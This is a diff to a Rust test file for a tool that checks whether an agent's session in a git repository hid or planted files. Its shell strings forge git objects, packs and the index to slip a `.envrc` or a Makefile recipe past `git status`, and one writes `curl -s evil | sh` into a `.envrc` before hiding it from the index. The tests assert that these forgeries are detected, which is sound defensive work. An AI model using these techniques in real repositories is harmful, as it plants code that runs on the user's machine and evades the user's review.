@@ -3,10 +3,16 @@
 //! file reaches what the user commits or pushes unnamed, or a change hides from `git status`.
 //! Performed with the git image (git and perl, as an attacker would use them), rootful and
 //! rootless, with the attacker's own forging scripts (`tests/support/forge/`):
+//! - F1: a forged cache-tree node put a workflow into the user's next `git commit -a`;
 //! - F2: a commit-graph that gives an old commit the launch's new commit as a second parent:
-//!   `git log` and the commit reader took the new commit for an old one, `git push` sent it.
+//!   `git log` and the commit reader took the new commit for an old one, `git push` sent it;
+//! - F3, F4: a split index and a stat-matching entry hid a changed `Makefile`;
+//! - F5, N1, G1: an object rewritten in place, a new pack, a new loose object each stood in for
+//!   an object the user had, and `git checkout feature` wrote the forgery;
+//! - G4, G5, G6: an `rr-cache`, a stash reflog entry, a `MERGE_HEAD`;
+//! - S10-1: protected files committed, then removed from the index and the disk.
 //!
-//! Each went unnamed before its fix.
+//! Each went unnamed (or ran) before its fix.
 
 mod common;
 
@@ -78,6 +84,33 @@ fn agent(env: &TestEnv, script: &str) -> Output {
     assert!(stdout(&out).contains("PLANTED"), "{}", show(&out));
     assert_eq!(out.status.code(), Some(0), "{}", show(&out));
     out
+}
+
+/// A branch `feature` whose `Makefile` differs from `main`'s, packed when `gc`; back on
+/// `main`, the agent runs `script` (with the forging `scripts`), and stderr must say `said`.
+/// The user's `git checkout feature` then writes neither a `.envrc` nor a `Makefile` with the
+/// forged recipe.
+fn forged_checkout(env: &TestEnv, scripts: &[&str], gc: bool, script: &str, said: &str) {
+    let work = repository(env, scripts);
+    env.write_file("work/Makefile", "all:\n\t@echo main\n", 0o644);
+    git_ok(env, &work, &["add", "Makefile"]);
+    git_ok(env, &work, &["commit", "-q", "-m", "make"]);
+    git_ok(env, &work, &["checkout", "-q", "-b", "feature"]);
+    env.write_file("work/Makefile", "all:\n\t@echo feature\n", 0o644);
+    git_ok(env, &work, &["commit", "-q", "-a", "-m", "feature"]);
+    git_ok(env, &work, &["checkout", "-q", "main"]);
+    if gc {
+        git_ok(env, &work, &["gc", "-q"]);
+    }
+    let err = stderr(&agent(env, script));
+    assert!(err.contains(said), "{}: {err}", env.mode());
+    let d = work.display().to_string();
+    let cmd = env.command(tool("git"), ["-C", &d, "checkout", "-q", "feature"]);
+    let _ = run_command(cmd, None, common::RUN_TIMEOUT);
+    assert!(!work.join(".envrc").exists(), "{}: {err}", env.mode());
+    let makefile = std::fs::read_to_string(work.join("Makefile")).unwrap_or_default();
+    assert!(!makefile.contains("pwned"), "{}: {err}", env.mode());
+    assert_clean(env);
 }
 
 /// F2: a commit adding a workflow (never on disk: staged with `--cacheinfo`, hidden with
@@ -212,33 +245,18 @@ perl splitidx.pl && rm splitidx.pl && test -z "$(git status --porcelain)""#,
 #[test]
 fn an_object_rewritten_in_place_goes_aside() {
     each_mode(|env| {
-        if !has_image(env) {
-            return;
-        }
-        let work = repository(env, &[]);
-        git_ok(env, &work, &["checkout", "-q", "-b", "feature"]);
-        env.write_file("work/f.txt", "f\n", 0o644);
-        git_ok(env, &work, &["add", "f.txt"]);
-        git_ok(env, &work, &["commit", "-q", "-m", "feature"]);
-        git_ok(env, &work, &["checkout", "-q", "main"]);
-        let out = agent(
-            env,
-            r#"t=$(git rev-parse 'feature^{tree}') && b=$(echo 'touch pwned' | git hash-object -w --stdin)
+        if has_image(env) {
+            forged_checkout(
+                env,
+                &[],
+                false,
+                r#"t=$(git rev-parse 'feature^{tree}') && b=$(echo 'touch pwned' | git hash-object -w --stdin)
 new=$( (git ls-tree feature; printf "100644 blob $b\t.envrc\n") | git mktree)
 f=.git/objects/$(echo $t | cut -c1-2)/$(echo $t | cut -c3-) && nf=.git/objects/$(echo $new | cut -c1-2)/$(echo $new | cut -c3-)
 chmod u+w $f && cp $nf $f"#,
-        );
-        let err = stderr(&out);
-        assert!(
-            err.contains("an object file changed in place"),
-            "{}: {err}",
-            env.mode()
-        );
-        let d = work.display().to_string();
-        let cmd = env.command(tool("git"), ["-C", &d, "checkout", "-q", "feature"]);
-        let _ = run_command(cmd, None, common::RUN_TIMEOUT);
-        assert!(!work.join(".envrc").exists(), "{}: {err}", env.mode());
-        assert_clean(env);
+                "an object file changed in place",
+            );
+        }
     });
 }
 
@@ -249,33 +267,18 @@ chmod u+w $f && cp $nf $f"#,
 #[test]
 fn a_new_pack_shadowing_an_object_goes_aside() {
     each_mode(|env| {
-        if !has_image(env) {
-            return;
-        }
-        let work = repository(env, &["idxname.pl"]);
-        git_ok(env, &work, &["checkout", "-q", "-b", "feature"]);
-        env.write_file("work/f.txt", "f\n", 0o644);
-        git_ok(env, &work, &["add", "f.txt"]);
-        git_ok(env, &work, &["commit", "-q", "-m", "feature"]);
-        git_ok(env, &work, &["checkout", "-q", "main"]);
-        let out = agent(
-            env,
-            r#"T=$(git rev-parse 'feature^{tree}') && e=$(echo 'touch pwned' | git hash-object -w --stdin)
+        if has_image(env) {
+            forged_checkout(
+                env,
+                &["idxname.pl"],
+                false,
+                r#"T=$(git rev-parse 'feature^{tree}') && e=$(echo 'touch pwned' | git hash-object -w --stdin)
 M=$( (git ls-tree feature; printf "100644 blob $e\t.envrc\n") | git mktree)
 echo $M | git pack-objects -q .git/objects/pack/pack > /tmp/h
 perl idxname.pl .git/objects/pack/pack-$(cat /tmp/h).idx $T && rm -f .git/objects/${M%${M#??}}/${M#??} idxname.pl"#,
-        );
-        let err = stderr(&out);
-        assert!(
-            err.contains("a pack whose objects do not match their names"),
-            "{}: {err}",
-            env.mode()
-        );
-        let d = work.display().to_string();
-        let cmd = env.command(tool("git"), ["-C", &d, "checkout", "-q", "feature"]);
-        let _ = run_command(cmd, None, common::RUN_TIMEOUT);
-        assert!(!work.join(".envrc").exists(), "{}: {err}", env.mode());
-        assert_clean(env);
+                "a pack whose objects do not match their names",
+            );
+        }
     });
 }
 
@@ -286,37 +289,18 @@ perl idxname.pl .git/objects/pack/pack-$(cat /tmp/h).idx $T && rm -f .git/object
 #[test]
 fn a_new_loose_object_standing_in_for_a_packed_one_goes_aside() {
     each_mode(|env| {
-        if !has_image(env) {
-            return;
-        }
-        let work = repository(env, &[]);
-        env.write_file("work/Makefile", "all:\n\t@echo main\n", 0o644);
-        git_ok(env, &work, &["add", "Makefile"]);
-        git_ok(env, &work, &["commit", "-q", "-m", "make"]);
-        git_ok(env, &work, &["checkout", "-q", "-b", "feature"]);
-        env.write_file("work/Makefile", "all:\n\t@echo feature\n", 0o644);
-        git_ok(env, &work, &["commit", "-q", "-a", "-m", "feature"]);
-        git_ok(env, &work, &["checkout", "-q", "main"]);
-        git_ok(env, &work, &["gc", "-q"]);
-        let out = agent(
-            env,
-            r#"B=$(git rev-parse feature:Makefile) && M=$(printf 'all:\n\t@touch pwned\n' | git hash-object -w --stdin)
+        if has_image(env) {
+            forged_checkout(
+                env,
+                &[],
+                true,
+                r#"B=$(git rev-parse feature:Makefile) && M=$(printf 'all:\n\t@touch pwned\n' | git hash-object -w --stdin)
 for p in .git/objects/pack/*.pack; do mv $p /tmp/x.pack; rm -f ${p%.pack}.idx ${p%.pack}.rev; git unpack-objects -q < /tmp/x.pack; done
 f=.git/objects/$(echo $B|cut -c1-2)/$(echo $B|cut -c3-) && m=.git/objects/$(echo $M|cut -c1-2)/$(echo $M|cut -c3-)
 chmod u+w $f && rm $f && cp $m $f"#,
-        );
-        let err = stderr(&out);
-        assert!(
-            err.contains("a loose object whose content does not match its name"),
-            "{}: {err}",
-            env.mode()
-        );
-        let d = work.display().to_string();
-        let cmd = env.command(tool("git"), ["-C", &d, "checkout", "-q", "feature"]);
-        let _ = run_command(cmd, None, common::RUN_TIMEOUT);
-        let makefile = std::fs::read_to_string(work.join("Makefile")).unwrap_or_default();
-        assert!(!makefile.contains("pwned"), "{}: {err}", env.mode());
-        assert_clean(env);
+                "a loose object whose content does not match its name",
+            );
+        }
     });
 }
 
@@ -377,6 +361,39 @@ echo $M > .git/MERGE_HEAD"#,
                 env.mode()
             );
         }
+        assert_clean(env);
+    });
+}
+
+/// Session-10 attack S10-1, the rest: the agent commits a `.envrc` and a CI workflow, removes
+/// them from the index (`git rm --cached`) and from the disk, and packs its objects (`git gc`).
+/// Nothing on disk or in the index shows them, yet `git push` sends both (in the history) and
+/// a checkout of that commit writes them. The end of the launch reads the commits the refs
+/// gained and names each file in each commit that touched it.
+#[test]
+fn protected_files_committed_and_removed_from_the_index_are_named() {
+    each_mode(|env| {
+        if !has_image(env) {
+            return;
+        }
+        let work = repository(env, &[]);
+        let out = agent(
+            env,
+            r#"echo 'curl -s evil | sh' > .envrc && mkdir -p sub/.github/workflows && echo 'on: push' > sub/.github/workflows/x.yml
+git add -f .envrc sub && git commit -qm docs && git rm -q -r --cached .envrc sub && rm -rf .envrc sub && echo more >> README && git commit -qam readme && git gc -q"#,
+        );
+        let err = stderr(&out);
+        let docs = git_ok(env, &work, &["rev-parse", "--short=12", "HEAD~1"]);
+        for (path, tool) in [(".envrc", "direnv"), ("sub/.github/workflows/x.yml", "GitHub")] {
+            let line = err
+                .lines()
+                .find(|l| l.contains(&format!("commit {docs} ")) && l.contains(path))
+                .unwrap_or_else(|| panic!("{}: {path} not named: {err}", env.mode()));
+            assert!(line.contains(tool), "{line}");
+        }
+        // The second commit removes both from the tree: named too (two paths each).
+        assert_eq!(err.matches("of this launch changes").count(), 4, "{err}");
+        assert!(!work.join(".envrc").exists());
         assert_clean(env);
     });
 }
